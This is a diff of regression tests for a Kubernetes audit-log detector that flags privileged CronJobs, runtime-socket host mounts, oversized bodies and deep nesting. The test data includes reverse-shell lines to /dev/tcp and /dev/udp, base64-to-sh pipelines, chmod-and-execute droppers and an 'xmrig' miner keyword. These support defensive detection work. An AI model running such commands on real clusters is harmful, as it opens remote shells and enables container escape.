@@ -5,7 +5,7 @@ import { buildRuleSet, type RuleSet } from '../../src/rules/rule-set.js';
 import { ActivityLogDocument } from '../../src/sources/activity-log/activity-document.js';
 import { aksRecord, auditEvent, cronJobBody, jobBody, podSpec, type WriteOptions } from '../helpers/audit.js';
 import { activityRecord, bundledRuleSet, FIXED_CLOCK, processBatch } from '../helpers/detector.js';
-import { compileYaml } from '../helpers/rules.js';
+import { compileYaml, ruleYaml } from '../helpers/rules.js';
 import { REPO_ROOT } from '../helpers/shared.js';
 
 /** Regression tests for the evasions of issue 12, each built the way the API server logs it. */
@@ -37,6 +37,12 @@ const indicators = (finding: FindingRow | undefined): string[] | undefined =>
 
 const workloadOf = (finding: FindingRow | undefined) =>
   finding?.Indicators['workload'] as { truncated: string[]; pathsAsWritten: unknown[] } | undefined;
+
+/** Why the severity of a privileged CronJob running `command` was raised. */
+async function privilegedSeverityReasons(command: string[]): Promise<unknown> {
+  const spec = podSpec({ image: 'contoso/app:1', securityContext: { privileged: true }, command });
+  return (await detect({ requestObject: cronJobBody(spec) }))?.Indicators['severityRaisedBy'];
+}
 
 const withAnnotation = (body: Record<string, unknown>, value: string): Record<string, unknown> => ({
   ...body,
@@ -215,13 +221,7 @@ describe('4. whitespace variants', () => {
   });
 
   it('a tab-separated shell still raises the severity of a node-escape primitive', async () => {
-    const spec = podSpec({
-      image: 'contoso/app:1',
-      securityContext: { privileged: true },
-      command: ['sh\t-c', 'id'],
-    });
-    const finding = await detect({ requestObject: cronJobBody(spec) });
-    expect(finding?.Indicators['severityRaisedBy']).toEqual([
+    expect(await privilegedSeverityReasons(['sh\t-c', 'id'])).toEqual([
       expect.stringMatching(/^node-escape primitive/),
     ]);
   });
@@ -303,5 +303,174 @@ describe('one cluster, one ClusterResourceId', () => {
         '/subscriptions/3f2a9c10-5b7e-4d21-9a44-0c1d2e3f4a5b/resourcegroups/rg-pay/providers/microsoft.containerservice/managedclusters/aks-pay-01',
       ]),
     );
+  });
+});
+
+/** The evasions the first pass found and left open; each departure is in the rule's description. */
+describe('6. a body dropped for size', () => {
+  const evil = () => cronJobBody(podSpec({ image: 'alpine', securityContext: { privileged: true } }));
+  /** The API server's truncating audit backend: both objects omitted, the event annotated. */
+  const truncatedEvent = (options: WriteOptions) => {
+    const event = auditEvent(options);
+    return {
+      ...event,
+      annotations: { ...(event['annotations'] as object), 'audit.k8s.io/truncated': 'true' },
+    };
+  };
+  const detectEvent = async (event: Record<string, unknown>) => {
+    const { findings, report } = run(await bundledRuleSet(), [event]);
+    expect(report.problems).toEqual([]);
+    return findings.find((f) => f.RuleId === RULE);
+  };
+
+  it.each(['create', 'update', 'patch'])(
+    'a %s whose body AKS logged as skipped-too-big-size-object fires its own indicator',
+    async (verb) => {
+      const finding = await detect({ verb, requestObject: 'skipped-too-big-size-object' });
+      expect(indicators(finding)).toEqual(['indicator_body_dropped_for_size']);
+      expect(finding?.Indicators['requestBody']).toBe('too-big');
+    },
+  );
+
+  it('a Job whose body the truncating audit backend dropped fires it too', async () => {
+    const finding = await detectEvent(truncatedEvent({ resource: 'jobs' }));
+    expect(indicators(finding)).toEqual(['indicator_body_dropped_for_size']);
+  });
+
+  it('a Metadata-level write, a system principal and a pod write do not', async () => {
+    expect(await detect({ level: 'Metadata' })).toBeUndefined();
+    expect(await detect({ requestObject: undefined })).toBeUndefined();
+    expect(
+      await detect({
+        username: 'system:serviceaccount:kube-system:cronjob-controller',
+        requestObject: 'skipped-too-big-size-object',
+      }),
+    ).toBeUndefined();
+    expect(await detect({ resource: 'pods', requestObject: 'skipped-too-big-size-object' })).toBeUndefined();
+    // The annotation is read only when the body is missing: a logged body is read as usual.
+    expect(indicators(await detectEvent(truncatedEvent({ requestObject: evil() })))).toEqual([
+      'indicator_image',
+      'indicator_privileged',
+    ]);
+  });
+});
+
+describe('7. command variants beyond the seed letter', () => {
+  const withCommand = (line: string) =>
+    cronJobBody(podSpec({ image: 'contoso/app:1', command: ['/bin/sh', '-c'], args: [line] }));
+
+  it.each([
+    'chmod a+x /tmp/m && /tmp/m',
+    'chmod u+rwx /tmp/m',
+    'chmod go-w,u+x /tmp/m',
+    'chmod 755 /tmp/m',
+    'chmod -R 0750 /opt/tool',
+    'chmod\t\t4711 /tmp/m',
+    'echo ZWNobyBoaQ== | base64 --decode | sh',
+    'echo ZWNobyBoaQ== | base64  --dec | sh',
+    'exec /bin/sh  -i',
+    'zsh -i >& /dev/tcp/203.0.113.9/4444',
+    'exec 3<>/dev/udp/203.0.113.9/53',
+  ])('%j fires the command indicator', async (line) => {
+    expect(indicators(await detect({ requestObject: withCommand(line) }))).toEqual(['indicator_command']);
+  });
+
+  it.each([
+    'ssh -i /keys/id_ed25519 backup@203.0.113.9 true',
+    'chmod 644 /etc/app.conf',
+    'chmod u-x,go-w /tmp/m',
+    'chmod 1644 /tmp/m',
+    'base64 -w0 /tmp/report > /tmp/report.b64',
+  ])('%j does not', async (line) => {
+    expect(await detect({ requestObject: withCommand(line) })).toBeUndefined();
+  });
+
+  it.each([
+    ['/bin/sh', '-i'],
+    ['/bin/busybox', 'chmod', 'a+x', '/tmp/m'],
+    ['/bin/busybox', 'base64', '--decode', '/tmp/p'],
+  ])('the variants count as shell-like for the severity too: %s %s', async (...command) => {
+    expect(await privilegedSeverityReasons(command)).toEqual([
+      expect.stringMatching(/^node-escape primitive/),
+    ]);
+  });
+});
+
+describe('8. every container runtime socket', () => {
+  const sockets = [
+    '/run/docker.sock',
+    '/var/run/containerd/containerd.sock',
+    '/run/containerd/containerd.sock',
+    '/var/run/crio/crio.sock',
+    '/run/crio/crio.sock',
+  ];
+
+  it.each(sockets)('a hostPath of %s mounted at the same path is a sensitive mount', async (path) => {
+    const spec = podSpec(
+      { image: 'contoso/app:1', volumeMounts: [{ name: 'sock', mountPath: path }] },
+      { volumes: [{ name: 'sock', hostPath: { path, type: 'Socket' } }] },
+    );
+    const finding = await detect({ requestObject: cronJobBody(spec) });
+    expect(indicators(finding)).toEqual(['indicator_host_path', 'indicator_sensitive_mount']);
+    expect(
+      (finding?.Indicators['matched'] as Record<string, unknown>)['indicator_sensitive_mount'],
+    ).toMatchObject({ mount_path: path });
+  });
+
+  it.each(sockets)('a hostPath of %s mounted elsewhere is one too', async (path) => {
+    const spec = podSpec(
+      { image: 'contoso/app:1', volumeMounts: [{ name: 'sock', mountPath: '/host.sock' }] },
+      { volumes: [{ name: 'sock', hostPath: { path } }] },
+    );
+    expect(indicators(await detect({ requestObject: cronJobBody(spec) }))).toEqual([
+      'indicator_host_path',
+      'indicator_sensitive_mount',
+    ]);
+  });
+});
+
+describe('9. nesting bounds are reported, never a silent non-match', () => {
+  const ruleFile = (detection: string) =>
+    buildRuleSet([
+      {
+        path: 'rules/deep.yml',
+        text: ruleYaml(detection, 'product: kubernetes\n    service: audit'),
+      },
+    ]).ruleSet;
+  const nest = (depth: number, leaf: unknown): unknown => {
+    let value = leaf;
+    for (let i = 0; i < depth; i++) value = [value];
+    return value;
+  };
+
+  it('a field value nested below the field-path bound is a problem of the record', () => {
+    const ruleSet = ruleFile("sel:\n  requestObject.metadata.labels.team: 'red'\ncondition: sel");
+    const shallow = auditEvent({ requestObject: { metadata: { labels: { team: nest(10, 'red') } } } });
+    const deep = auditEvent({ requestObject: { metadata: { labels: { team: nest(300, 'red') } } } });
+    expect(run(ruleSet, [shallow]).findings).toHaveLength(1);
+    const { findings, report } = run(ruleSet, [deep]);
+    expect(findings).toEqual([]);
+    expect(report.problems.map((p) => p.message)).toEqual([
+      'field requestObject.metadata.labels.team: nested deeper than 256 levels, not read below',
+    ]);
+  });
+
+  it('a keyword nested below the keyword bound is a problem of the record', () => {
+    const ruleSet = ruleFile("keywords:\n  - 'xmrig'\ncondition: keywords");
+    const shallow = auditEvent({ requestObject: { spec: nest(10, 'xmrig --donate 0') } });
+    const deep = auditEvent({ requestObject: { spec: nest(80, 'xmrig --donate 0') } });
+    expect(run(ruleSet, [shallow]).findings).toHaveLength(1);
+    const { findings, report } = run(ruleSet, [deep]);
+    expect(findings).toEqual([]);
+    expect(report.problems.map((p) => p.message)).toEqual([
+      'keywords: the record nests deeper than 64 levels, not searched below',
+    ]);
+  });
+
+  it('ordinary records report nothing', async () => {
+    const { report } = run(await bundledRuleSet(), [
+      auditEvent({ requestObject: cronJobBody(podSpec(BENIGN)) }),
+    ]);
+    expect(report.problems).toEqual([]);
   });
 });
